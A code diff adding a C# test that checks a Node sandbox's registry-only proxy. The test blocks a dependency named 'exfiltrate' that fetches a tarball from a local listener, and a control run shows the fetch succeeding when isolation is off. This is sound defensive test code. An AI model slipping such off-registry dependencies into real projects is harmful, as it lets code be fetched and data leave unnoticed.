@@ -97,6 +97,38 @@ public sealed class ContainmentTests
     }
 
     [Test]
+    public async Task An_install_reaches_the_registry_and_nothing_else()
+    {
+        using var listener = new Hostile.Listener();
+        var workspace = SandboxFixture.NewWorkspace("egress");
+        TestSites.WritePackageJson(workspace, new Dictionary<string, string> { ["dev"] = "vite" },
+            new Dictionary<string, string> { ["react"] = "19.3.1", ["exfiltrate"] = $"http://127.0.0.1:{listener.Port}/exfiltrate.tgz" });
+        await using var sandbox = new LocalNodeSandbox(SandboxFixture.Options(template: false));
+        await using var session = await sandbox.OpenSessionAsync(SandboxFixture.Request(workspace));
+
+        var result = await session.EnsureRunningAsync();
+
+        Assert.That(result.Failure, Is.EqualTo(SandboxFailureKind.InstallFailed), result.FailureExcerpt);
+        Assert.That(result.Install.Output, Does.Contain("403"), "the registry-only proxy refused the host's loopback");
+        Assert.That(listener.Accepted, Is.Zero);
+
+        // The same project without the stray dependency installs from the registry through the same proxy.
+        TestSites.WritePackageJson(workspace, new Dictionary<string, string> { ["start"] = "node -e \"require('react');require('node:http').createServer((q,s)=>s.end('ok')).listen(process.env.PORT,process.env.HOST)\"" },
+            new Dictionary<string, string> { ["react"] = "19.3.1" });
+        var fixedResult = await session.EnsureRunningAsync();
+        Assert.That(fixedResult.IsRunning, Is.True, fixedResult.FailureExcerpt);
+
+        // Control: without the boundary npm fetches from the host's loopback.
+        var open = SandboxFixture.NewWorkspace("egress-open");
+        TestSites.WritePackageJson(open, new Dictionary<string, string> { ["dev"] = "vite" },
+            new Dictionary<string, string> { ["exfiltrate"] = $"http://127.0.0.1:{listener.Port}/exfiltrate.tgz" });
+        await using var unisolated = new LocalNodeSandbox(SandboxFixture.Options(o => o.Isolation = SandboxIsolation.None, template: false));
+        await using var openSession = await unisolated.OpenSessionAsync(SandboxFixture.Request(open));
+        await openSession.EnsureRunningAsync();
+        Assert.That(listener.Accepted, Is.GreaterThan(0));
+    }
+
+    [Test]
     public async Task A_detached_daemon_started_by_a_shell_action_dies_with_it()
     {
         var tag = Random.Shared.Next(100_000, 999_999).ToString(System.Globalization.CultureInfo.InvariantCulture);
